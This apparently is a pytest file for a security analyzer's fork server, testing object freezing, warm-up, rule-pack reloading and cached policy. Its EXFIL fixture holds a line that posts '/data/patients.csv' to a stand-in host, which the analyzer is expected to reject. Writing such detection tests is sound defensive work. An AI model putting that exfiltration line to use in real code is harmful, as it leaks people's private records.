"""Session 45 (speed45s): a job's start at a site, through the fork server (engine/isolate.py `serve`).

The server freezes everything it holds (gc.freeze) so that its children share those pages; the analysis
asked, twice a job, whether it may freeze and unfreeze itself, and the answer counted every frozen object
(67,000 in a warm server: 10-20 ms a question). And the server's warm-up job was analysed in a child of
its own, so that what an analysis imports and builds on first use was lost with that child, in the server
and in each standby child alike. Neither may change what a job's analysis finds, nor let a site's changed
rule pack go unseen by a server started before the change."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine.collect import collect
from analyzer.engine.isolate import ForkServer

ROOT = Path(__file__).resolve().parents[1]
EXFIL = "import requests\nrequests.post('https://x.example', data=open('/data/patients.csv').read())\n"
TELNET = "import telnetlib\nimport numpy as np\nweights = np.zeros(3)\n"
PACK = """pack: site
rules:
  - id: site.no-old-protocols
    category: network
    severity: high
    confidence: high
    message: old protocol
    why: Old protocol.
    match: {imports: [telnetlib]}
    examples: {match: ["import telnetlib"]}
"""


def _python(code: str) -> str:
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=300)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


def test_a_fork_servers_freeze_is_kept_and_never_counted(tmp_path: Path) -> None:
    """An analysis in a server that froze its objects for its children neither counts them (a walk of every
    one) nor undoes that freeze, and finds what it finds anywhere else."""
    (tmp_path / "train.py").write_text(EXFIL)
    out = _python(f"""
import gc
from analyzer import api, collector
from analyzer.engine.collect import collect
held = [[i] for i in range(50_000)]
collector.freeze_for_forks()
frozen = gc.get_freeze_count()
def counted():
    raise AssertionError("the frozen objects were counted")
gc.get_freeze_count, count = counted, gc.get_freeze_count
policy = api.load_policy()
report = api.analyze_here(collect({str(tmp_path)!r}, policy.limits), policy)
print(count() > frozen // 2, report.decision.value, sorted({{f.rule for f in report.findings}}))
""")
    kept, decision, rules = out.split(" ", 2)
    assert kept == "True" and decision == "reject"
    expected = api.scan(tmp_path)
    assert rules.strip() == str(sorted({f.rule for f in expected.findings}))
    assert expected.decision.value == decision


def test_the_fork_servers_warm_up_job_is_analysed_in_its_own_process() -> None:
    """The warm-up forks nothing: its analysis (and what that imports, compiles and keeps) is the server's,
    which each child it forks starts with."""
    out = _python("""
import os, sys
from analyzer.engine import analysis, isolate
def no_fork():
    raise AssertionError("the warm-up forked")
os.fork = no_fork
analysed, python_files = [], analysis.python_files
def spy(files, *args):
    analysed.extend(path for path, _ in files)
    return python_files(files, *args)
analysis.python_files = spy
isolate._warm_up()
print(analysed, "analyzer.engine.reaching" in sys.modules)  # imported by a loop's analysis
""")
    assert out.split() == ["['app/custom/train.py']", "True"]


@pytest.fixture
def server():
    srv = ForkServer()
    srv.start()
    yield srv
    srv.close()


def test_the_server_judges_as_a_scan_does(server, tmp_path: Path) -> None:
    """A warm server's child (its warm-up analysed in process) reports byte for byte what a scan reports."""
    policy = api.load_policy()
    for name, code in (("exfil", EXFIL), ("clean", "import numpy as np\nprint(np.zeros(3).sum())\n")):
        (tmp_path / name).mkdir()
        (tmp_path / name / "train.py").write_text(code)
        unit = collect(tmp_path / name, policy.limits)
        assert api.analyze_isolated(unit, policy, server).to_json() == api.analyze(unit, policy).to_json()


def test_a_site_pack_changed_while_the_server_runs_judges_the_next_job(server, tmp_path: Path) -> None:
    (tmp_path / "packs").mkdir()
    (tmp_path / "packs" / "site.yaml").write_text(PACK)
    (tmp_path / "policy.yaml").write_text("rule_packs: [packs]\n")
    (tmp_path / "job").mkdir()
    (tmp_path / "job" / "train.py").write_text(TELNET)

    def rules() -> set[str]:
        policy = api.load_policy(tmp_path / "policy.yaml")
        return {f.rule for f in api.analyze_isolated(collect(tmp_path / "job", policy.limits), policy, server).findings}

    assert "site.no-old-protocols" in rules()
    (tmp_path / "packs" / "site.yaml").write_text(PACK.replace("[telnetlib]", "[ftplib]").replace(
        '"import telnetlib"', '"import ftplib"'))
    assert "site.no-old-protocols" not in rules()


def test_the_server_keeps_the_configuration_of_the_job_it_served(tmp_path: Path) -> None:
    """After a job under a site's policy, the server holds that policy's rule set and catalogue (each child
    forked next starts with them), frozen with the rest."""
    (tmp_path / "packs").mkdir()
    (tmp_path / "packs" / "site.yaml").write_text(PACK)
    (tmp_path / "policy.yaml").write_text("rule_packs: [packs]\n")
    (tmp_path / "job").mkdir()
    (tmp_path / "job" / "train.py").write_text(TELNET)
    out = _python(f"""
import gc, pickle
from analyzer import api
from analyzer.engine import catalogue, compiled, isolate, rules
policy = api.load_policy({str(tmp_path / "policy.yaml")!r})
packs = compiled.rule_packs(policy.rule_packs)
print(packs.key in rules._CACHE, end=" ")
isolate._configured(pickle.loads(pickle.dumps(policy)))  # as the server reads it
print(packs.key in rules._CACHE, "site.no-old-protocols" in rules._CACHE[packs.key].rules,
      gc.get_count()[0] < 100)
""")
    assert out.split() == ["False", "True", "True", "True"]
